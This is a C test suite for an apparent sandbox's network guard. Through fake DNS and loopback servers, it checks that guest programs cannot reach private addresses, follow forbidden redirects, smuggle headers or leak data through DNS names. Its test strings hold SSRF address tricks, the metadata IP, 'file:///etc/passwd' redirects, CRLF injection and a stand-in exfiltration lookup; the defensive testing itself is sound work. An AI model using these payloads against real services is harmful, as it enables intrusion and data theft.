/* looks_net.c - cases about the network that the host guards: programs that may use it a little and
 * want more, servers that answer with anything but an answer, and names that lead elsewhere.
 *
 * The servers are real, on the loopback. Only the resolver is ours: names beneath attack.test, and
 * localhost where a case wants that, have the addresses that are said here; libcurl's own resolver
 * is the system's, so that a name that is resolved a second time leads elsewhere. */
#include <arpa/inet.h>
#include <netdb.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>

#include "net_server.h"
#include "suite.h"

enum {
    TEXT_BYTES = 8192,
    GONE_MS = 1000, /* until the connections of a run that is over are closed */
    ANSWERS_MAX = 2,
};

/* ---- the resolver ---- */

int __wrap_getaddrinfo(
    const char *name, const char *service, const struct addrinfo *hints, struct addrinfo **ret);
int __real_getaddrinfo(
    const char *name, const char *service, const struct addrinfo *hints, struct addrinfo **ret);

static int lookups_count;      /* atomic: of names beneath attack.test */
static int localhost_is_moved; /* atomic: so many times it is 127.0.0.2, and 127.0.0.1 then */

/* What must not be reached, whatever a name says: rN.attack.test is the Nth. */
static const char *const RANGES[] = {"10.0.0.1", "172.16.0.1", "172.31.255.255", "192.168.1.1",
    "169.254.169.254", "100.64.0.1", "127.0.0.1", "0.0.0.0", "192.0.0.8", "192.0.2.1", "198.18.0.1",
    "198.51.100.1", "203.0.113.1", "224.0.0.1", "240.0.0.1", "255.255.255.255", "::1",
    "::", "fc00::1", "fd12::1", "fe80::1", "ff02::1", "2001:db8::1", "::ffff:127.0.0.1",
    "::ffff:10.0.0.1", "64:ff9b::7f00:1", "2002:7f00:1::", "::127.0.0.1", "fd00:ec2::254"};
enum { RANGES_COUNT = sizeof(RANGES) / sizeof(RANGES[0]) };

/* One list of the C library's, made from addresses as it makes them. */
static int answer_with(const char *const *addresses, size_t count, struct addrinfo **ret)
{
    const struct addrinfo hints = {.ai_socktype = SOCK_STREAM, .ai_flags = AI_NUMERICHOST};
    struct addrinfo **end = ret;
    size_t i;

    for (i = 0; i < count; i++) {
        int r = __real_getaddrinfo(addresses[i], NULL, &hints, end);

        if (r != 0) {
            return r;
        }
        end = &(*end)->ai_next;
    }
    return 0;
}

int __wrap_getaddrinfo(
    const char *name, const char *service, const struct addrinfo *hints, struct addrinfo **ret)
{
    static const char *const two[] = {"127.0.0.2", "127.0.0.1"};
    const char *suffix = name != NULL ? strstr(name, ".attack.test") : NULL;
    unsigned i = 0;

    if (name != NULL && strcmp(name, "localhost") == 0) {
        return answer_with(
            two + (__atomic_sub_fetch(&localhost_is_moved, 1, __ATOMIC_ACQ_REL) < 0), 1, ret);
    }
    if (suffix == NULL || strcmp(suffix, ".attack.test") != 0) {
        return __real_getaddrinfo(name, service, hints, ret);
    }
    (void)__atomic_add_fetch(&lookups_count, 1, __ATOMIC_RELAXED);
    if (strncmp(name, "two.", 4) == 0) {
        return answer_with(two, ANSWERS_MAX, ret);
    }
    if (sscanf(name, "r%u.", &i) == 1) {
        i %= RANGES_COUNT;
        return answer_with(&RANGES[i], 1, ret);
    }
    return EAI_NONAME;
}

/* ---- one case ---- */

/* What programs begin with; T asks and tells a status, or why not. */
#define BEGIN                                                                                      \
    "const T = async (u, o) => { try { const r = await fetch(u, o); await r.bytes(); return "      \
    "r.status } catch (e) { return e.code ?? e.name } }; const all = async (l, o) => { const t = " \
    "[]; for (const u of l) t.push(await T(u, o)); return t };\n"
#define BEGIN_PYTHON                                                                               \
    "async def T(u, **o):\n    try:\n        r = await fetch(u, **o)\n        await r.bytes()\n  " \
    "  "                                                                                           \
    "    return r.status\n    except Exception as e:\n        return getattr(e, 'code', "          \
    "type(e).__name__)\n"

/* Rules, in which $P is the port of the servers. */
#define TO(host, rest)                                                                             \
    "{\"effect\":\"allow\",\"match\":{\"scheme\":\"http\",\"host\":\"" host "\",\"port\":$P}" rest \
    "}"
#define AT_A TO("127.0.0.1", ",\"addresses\":[\"127.0.0.1\"]")
#define AT_B TO("127.0.0.2", ",\"addresses\":[\"127.0.0.2\"]")
#define NO_DENIED "{\"effect\":\"deny\",\"match\":{\"host\":\"*\",\"path\":\"/denied\"}}"

struct net_case {
    const char *source; /* in which $P is the port */
    const char *rules;  /* NULL: no network */
    const char *value;  /* that it must come to, as JSON */
    int python;
    struct vial_limits limits;       /* of those of the network; 0: the default */
    int no_connections;              /* of the first server: there must be none */
    int no_requests;                 /* likewise requests */
    const char *unseen_a, *unseen_b; /* what no head of a request to a server may have in it */
    int no_lookups;                  /* the resolver must not have been asked */
};

/* The text with $P replaced. */
static void fill(const char *text, unsigned port, char *out, size_t size)
{
    size_t used = 0;

    for (; *text != '\0' && used + 8 < size; text++) {
        if (text[0] == '$' && text[1] == 'P') {
            used += (size_t)snprintf(out + used, size - used, "%u", port);
            text++;
        } else {
            out[used++] = *text;
        }
    }
    out[used] = '\0';
}

static struct vial_result *run_it(
    struct suite *s, const struct net_case *c, unsigned port, char *why, size_t size)
{
    static char source[TEXT_BYTES], rules[TEXT_BYTES];
    struct vial_request request = VIAL_REQUEST_INIT;
    struct vial_limits limits = c->limits;
    struct vial_result *result = NULL;
    struct vial_error err;

    limits.size = sizeof(limits);
    limits.wall_ms_max = limits.wall_ms_max != 0 ? limits.wall_ms_max : WALL_MS;
    fill(c->source, port, source, sizeof(source));
    request.source = source;
    request.source_len = strlen(source);
    request.limits = &limits;
    request.language = c->python ? VIAL_LANGUAGE_PYTHON : VIAL_LANGUAGE_AUTO;
    if (c->rules != NULL) {
        fill(c->rules, port, rules, sizeof(rules));
        request.net = rules;
        request.net_len = strlen(rules);
    }
    if (vial_run(s->engine, &request, &result, &err) < 0) {
        (void)snprintf(why, size, "it did not run: %s", err.text);
        return NULL;
    }
    return result;
}

static int judge_servers(
    const struct net_case *c, struct net_servers *servers, char *why, size_t size)
{
    struct net_server *a = &servers->servers[0], *b = &servers->servers[1];

    if (net_servers_wait(servers, GONE_MS) != 0) {
        (void)snprintf(why, size, "connections outlive the run");
    } else if (c->no_connections && (usleep(50000), a->connections_count) != 0) {
        (void)snprintf(why, size, "there was a connection to an address that was not judged");
    } else if (c->no_requests && a->requests_count != 0) {
        (void)snprintf(
            why, size, "a request went to a server that it may not go to: %.100s", a->seen);
    } else if (c->unseen_a != NULL && net_server_saw(a, c->unseen_a)) {
        (void)snprintf(why, size, "the first server was asked for %s", c->unseen_a);
    } else if (c->unseen_b != NULL && net_server_saw(b, c->unseen_b)) {
        (void)snprintf(why, size, "the other server got %s", c->unseen_b);
    } else if (c->no_lookups && __atomic_load_n(&lookups_count, __ATOMIC_RELAXED) != 0) {
        (void)snprintf(why, size, "a name was looked up that no rule allows");
    } else {
        return 1;
    }
    return 0;
}

static int run_net(struct suite *s, const struct net_case *c, char *why, size_t size)
{
    struct net_servers servers;
    struct vial_result *result;
    const char *value;
    int good = 0;

    if (net_servers_start(&servers) < 0) {
        (void)snprintf(why, size, "there is no server to ask");
        return 0;
    }
    __atomic_store_n(&lookups_count, 0, __ATOMIC_RELAXED);
    result = run_it(s, c, servers.port, why, size);
    if (result != NULL) {
        value = vial_result_value(result, NULL);
        good = value != NULL && strcmp(value, c->value) == 0;
        if (!good) {
            (void)snprintf(why, size, "it came to %s, %.300s",
                vial_status_name(vial_result_status(result)), value != NULL ? value : "nothing");
        }
    }
    good = good && judge_servers(c, &servers, why, size);
    vial_result_free(result);
    net_servers_stop(&servers);
    return good;
}

#define CASE(name, ...)                                                                            \
    static int name(struct suite *s, char *why, size_t size)                                       \
    {                                                                                              \
        static const struct net_case c = {__VA_ARGS__};                                            \
                                                                                                   \
        return run_net(s, &c, why, size);                                                          \
    }

CASE(look_sockets,
    .source = "const out = []; for (const [m, f] of [['net', 'connect'], ['dgram', "
              "'createSocket'], ['http', 'get'], ['tls', 'connect']]) { try { "
              "require(m)[f]($P); out.push(m) } catch (e) { out.push('no') } } "
              "[typeof fetch, ...out]",
    .value = "[\"undefined\",\"no\",\"no\",\"no\",\"no\"]", .no_connections = 1)

CASE(look_sockets_python,
    .source = "out = []\nfor name in ('socket', '_socket', 'ssl', 'http.client', 'urllib.request', "
              "'requests', 'asyncio.streams'):\n    try:\n        m = __import__(name)\n        "
              "m.create_connection(('127.0.0.1', $P))\n        out.append(name)\n    except "
              "Exception:\n        pass\n[out, 'fetch' in dir(__builtins__)]",
    .python = 1, .value = "[[],false]", .no_connections = 1)

#define SPELLINGS                                                                                  \
    "['127.0.0.1', 'localhost', 'a.localhost', '0.0.0.0', '[::1]', '[::]', '127.1', '0', "         \
    "'2130706433', '0x7f000001', '0177.0.0.1', '0x7f.1', '127.0.1', '[::ffff:127.0.0.1]', "        \
    "'[::ffff:7f00:1]', '[64:ff9b::7f00:1]', '[2002:7f00:1::]', '[::127.0.0.1]']"

CASE(look_spellings,
    .source = BEGIN
    "const t = await all(" SPELLINGS ".map((h) => `http://${h}:$P/`)); "
    "[[...new Set(t)], await all(['http://127.0.0.1.:$P/', 'http://localhost.:$P/', "
    "'http://[::1%25lo]:$P/', 'http://x@127.0.0.1:$P/'])]",
    .rules = "[" TO("*", "") "]",
    .value = "[[\"address\"],[\"address\",\"url\",\"TypeError\",\"TypeError\"]]",
    .limits = {.request_ms_max = 200}, .no_connections = 1)

CASE(look_spellings_python,
    .source = BEGIN_PYTHON
    "t = [await T(f'http://{h}:$P/') for h in " SPELLINGS "]\nu = [await "
    "T(f'http://{h}:$P/') for h in ['127.0.0.1.', 'localhost.', '[::1%25lo]', "
    "'x@127.0.0.1', '127.0.0.1\\\\@a.example', 'a.example\\r\\n127.0.0.1']]\n"
    "[sorted(set(t)), sorted(set(u))]",
    .rules = "[" TO("*", "") "]", .python = 1, .value = "[[\"address\"],[\"address\",\"url\"]]",
    .no_connections = 1)

CASE(look_ranges,
    .source = BEGIN "[...new Set(await all([...Array(29).keys()].map((i) => "
                    "`http://r${i}.attack.test:$P/`)))]",
    .rules = "[" TO("*.attack.test", "") "]", .value = "[\"address\"]", .no_connections = 1)

CASE(look_answers, .source = BEGIN "await T('http://two.attack.test:$P/')",
    .rules = "[" TO("two.attack.test", ",\"addresses\":[\"127.0.0.2\"]") "]",
    .value = "\"address\"", .unseen_b = "GET")

CASE(look_hops,
    .source = BEGIN
    "const to = (u) => T('http://127.0.0.1:$P/to?' + u); const t = []; for (const u of "
    "['http://127.0.0.1:$P/denied', '/denied', '/x/../denied', 'http://127.0.0.2:$P/', "
    "'http://10.0.0.1/', 'http://2130706434:$P/ok', 'file:///etc/passwd', "
    "'gopher://127.0.0.1/', 'data:,x', 'https://r0.attack.test/', '/to?/to?/to?/ok', "
    "'/ok']) t.push(await to(u)); t",
    .rules = "[" AT_A "," NO_DENIED "]", .limits = {.redirects_max = 2},
    .value =
        "[\"rule\",\"rule\",\"rule\",\"address\",\"address\",\"address\",\"url\",\"url\",\"url\","
        "\"rule\",\"redirect\",200]",
    .unseen_a = "GET /denied", .unseen_b = "GET")

CASE(look_credentials,
    .source = BEGIN
    "await T('http://127.0.0.1:$P/to?http://127.0.0.2:$P/x', {headers: {Authorization: "
    "'hidden', Cookie: 'hidden=1', 'X-Mine': 'told'}})",
    .rules = "[" AT_A "," AT_B "]", .limits = {.redirects_max = 2}, .value = "200",
    .unseen_b = "hidden")

CASE(look_headers,
    .source = BEGIN
    "const h = (n, v) => T('http://127.0.0.1:$P/', {headers: [[n, v]]}); const t = []; for "
    "(const [n, v] of [['Host', 'evil.example'], ['Connection', 'x'], "
    "['Transfer-Encoding', 'chunked'], ['Content-Length', '5'], ['Proxy-Authorization', "
    "'x'], ['Upgrade', 'x'], ['Expect', 'x'], ['TE', 'x']]) t.push(await h(n, v)); "
    "for (const m of ['CONNECT', 'TRACE', 'GET / HTTP/1.1\\r\\nX: y', 'get\\n']) "
    "t.push(await T('http://127.0.0.1:$P/', {method: m})); for (const u of ['/\\r\\nX: y', "
    "'/ HTTP/1.1', '/\\0']) t.push(await T('http://127.0.0.1:$P' + u)); "
    "[[...new Set(t.slice(0, 8))], t.slice(8)]", /* in URLs they are escaped */
    .rules = "[" AT_A "]",
    .value =
        "[[\"request\"],[\"TypeError\",\"TypeError\",\"TypeError\",\"TypeError\",200,200,200]]",
    .unseen_a = "\nX: y")

CASE(look_headers_python,
    .source = BEGIN_PYTHON
    "t = []\nfor n, v in [('Proxy-X', 'a'), ('Upgrade', 'b'), ('X', 'a\\r\\nY: b'), "
    "('X\\r\\nY', 'a'), ('X', 'a\\0b')]:\n    t.append(await "
    "T('http://127.0.0.1:$P/', headers={n: v}))\nt",
    .rules = "[" AT_A "]", .python = 1,
    .value = "[\"request\",\"request\",\"request\",\"request\",\"request\"]", .no_connections = 1)

CASE(look_endless, .source = BEGIN "await T('http://127.0.0.1:$P/endless')", .rules = "[" AT_A "]",
    .limits = {.response_bytes_max = 500000}, .value = "\"response_bytes_max\"")

CASE(look_bomb, .source = BEGIN "await T('http://127.0.0.1:$P/bomb')", .rules = "[" AT_A "]",
    .limits = {.decoded_bytes_max = 1 << 20}, .value = "\"decoded_bytes_max\"")

CASE(look_drip, .source = BEGIN "await T('http://127.0.0.1:$P/drip')", .rules = "[" AT_A "]",
    .limits = {.request_ms_max = 200, .wall_ms_max = 1000}, .value = "\"timeout\"")

CASE(look_garbage,
    .source = BEGIN
    "await all(['headers', 'storm', 'lying', 'chunks', 'nonsense', 'upgrade', 'brotli', "
    "'transfer'].map((p) => 'http://127.0.0.1:$P/' + p))",
    .rules = "[" AT_A "]",
    .value =
        "[\"headers\",\"headers\",\"broken\",\"broken\",\"protocol\",\"protocol\",\"encoding\","
        "\"encoding\"]")

CASE(look_labels,
    .source = BEGIN "await all(['a', 'secret-of-the-program', 'x'.repeat(60)].map((n) => "
                    "`http://${n}.attack.test:$P/`))",
    .rules = "[" AT_A "]", .value = "[\"rule\",\"rule\",\"rule\"]", .no_lookups = 1)

CASE(look_count, .source = BEGIN "await all(Array(5).fill('http://127.0.0.1:$P/'))",
    .rules = "[" AT_A "]", .limits = {.requests_max = 3},
    .value = "[200,200,200,\"requests_max\",\"requests_max\"]")

CASE(look_left,
    .source = "const open = Array.from({length: 30}, () => fetch('http://127.0.0.1:$P/endless')); "
              "await Promise.race(open); open.forEach((p) => p.catch(() => {})); __return(1)",
    .rules = "[" AT_A "]", .value = "1")

/* The same name, which the resolver of the host and that of libcurl read differently. */
static int run_moved(struct suite *s, const struct net_case *c, char *why, size_t size)
{
    __atomic_store_n(&localhost_is_moved, 1, __ATOMIC_RELEASE);
    return run_net(s, c, why, size);
}

#define MOVED "[" TO("localhost", ",\"addresses\":[\"127.0.0.2\"]") "]"
#define ASK_MOVED "try { await (await fetch('http://localhost:$P/')).text() } catch (e) { e.code }"

static int look_pinned(struct suite *s, char *why, size_t size)
{
    static const struct net_case c = {
        .source = ASK_MOVED, .rules = MOVED, .value = "\"B\"", .no_connections = 1};

    return run_moved(s, &c, why, size);
}

static int look_socket(struct suite *s, char *why, size_t size)
{
    static const struct net_case c = {
        .source = ASK_MOVED, .rules = MOVED, .value = "\"address\"", .no_connections = 1};

    return run_moved(s, &c, why, size);
}

static int look_request(struct suite *s, char *why, size_t size)
{
    static const struct net_case c = {
        .source = ASK_MOVED, .rules = MOVED, .value = "\"address\"", .no_requests = 1};

    return run_moved(s, &c, why, size);
}

/* So many names that the first is looked up again, and has another address than the connection that
 * was kept. */
static int look_kept(struct suite *s, char *why, size_t size)
{
    static const struct net_case c = {
        .source = BEGIN
        "const ask = async () => (await fetch('http://localhost:$P/')).text(); const first "
        "= await ask(), again = await ask(); await all([...Array(70).keys()].map((i) => "
        "`http://r${i}.attack.test:$P/`)); [first, again, await ask()]",
        .rules = "[" TO("localhost", ",\"addresses\":[\"127.0.0.1\",\"127.0.0.2\"]") "," TO(
            "*.attack.test", "") "]",
        .value = "[\"B\",\"B\",\"A\"]"};

    return run_moved(s, &c, why, size);
}

#define NET(function, number, attempt, outcome, ...)                                               \
    {                                                                                              \
        .look = (function), .id = (number), .what = (attempt), .answer = (outcome), __VA_ARGS__    \
    }
const struct attack LOOKS_NET[] = {
    NET(look_sockets, "N01", "open a socket by the modules of the language", "denied"),
    NET(look_sockets_python, "N01y", "do that in Python", "denied", .python = 1),
    NET(look_spellings, "N02", "reach the host by any spelling of its addresses", "denied",
        .sees = "net-private"),
    NET(look_spellings_python, "N02y", "do that in Python", "denied", .python = 1),
    NET(look_ranges, "N04", "reach what is not public by names that are allowed", "denied"),
    NET(look_answers, "N05", "hide a forbidden address behind an allowed one of the same name",
        "denied", .sees = "net-answers"),
    NET(look_hops, "N06", "be redirected to where it may not go", "denied", .sees = "net-hops"),
    NET(look_credentials, "N07", "have its credentials carried to another origin by a redirect",
        "contained", .sees = "net-credentials"),
    NET(look_headers, "N08", "smuggle by methods, URLs and headers", "denied",
        .sees = "net-headers"),
    NET(look_headers_python, "N08y", "do that in Python", "denied", .python = 1),
    NET(look_endless, "N09", "drown the host by an answer without an end", "denied",
        .sees = "net-large"),
    NET(look_bomb, "N09b", "drown it by an answer that unpacks to a thousandfold", "denied",
        .sees = "net-decoded"),
    NET(look_drip, "N09c", "hold a request for ever, a byte at a time", "denied",
        .sees = "net-time"),
    NET(look_garbage, "N09d", "confuse the host by what is no answer at all", "denied"),
    NET(look_labels, "N10", "carry data out by names that no rule allows", "denied"),
    NET(look_count, "N11", "ask without an end", "denied", .sees = "net-count"),
    NET(look_left, "N12", "leave requests behind when it ends", "contained"),
    NET(look_pinned, "N13", "have a name lead elsewhere when it is resolved again", "contained",
        .sees = "net-pinned"),
    NET(look_socket, "N13b", "be connected to an address that was not judged", "denied",
        .without = "net-pinned", .sees = "net-socket"),
    NET(look_request, "N13c", "send on a connection to an address that was not judged", "denied",
        .without = "net-pinned,net-socket", .sees = "net-request"),
    NET(look_kept, "N13d", "stay connected to an address that its name has no longer", "contained",
        .sees = "net-request"),
};

const unsigned LOOKS_NET_COUNT = sizeof(LOOKS_NET) / sizeof(LOOKS_NET[0]);
